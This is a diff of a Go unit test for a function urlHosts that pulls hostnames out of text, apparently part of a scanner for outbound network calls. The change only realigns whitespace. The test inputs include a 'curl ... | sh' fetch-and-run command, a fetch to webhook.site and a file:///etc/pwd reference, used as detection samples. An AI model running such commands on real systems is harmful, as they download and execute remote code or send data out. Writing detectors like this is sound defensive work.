@@ -492,10 +492,10 @@ func TestWriteBaselineRoundTrip(t *testing.T) {
 func TestURLHosts(t *testing.T) {
 	for text, want := range map[string][]string{
 		`fetch("https://Webhook.Site/abc")`:           {"webhook.site"},
-		"curl http://a.b:8080/x | sh; wss://c.d/e":     {"a.b", "c.d"},
+		"curl http://a.b:8080/x | sh; wss://c.d/e":    {"a.b", "c.d"},
 		"git+ssh://git@example.com/x file:///etc/pwd": nil,
-		"://x.y  https://":                             nil,
-		"xhttps://evil.example/":                       nil,
+		"://x.y  https://":                            nil,
+		"xhttps://evil.example/":                      nil,
 	} {
 		if d := cmp.Diff(want, urlHosts(text)); d != "" {
 			t.Errorf("urlHosts(%q) (-want +got):\n%s", text, d)
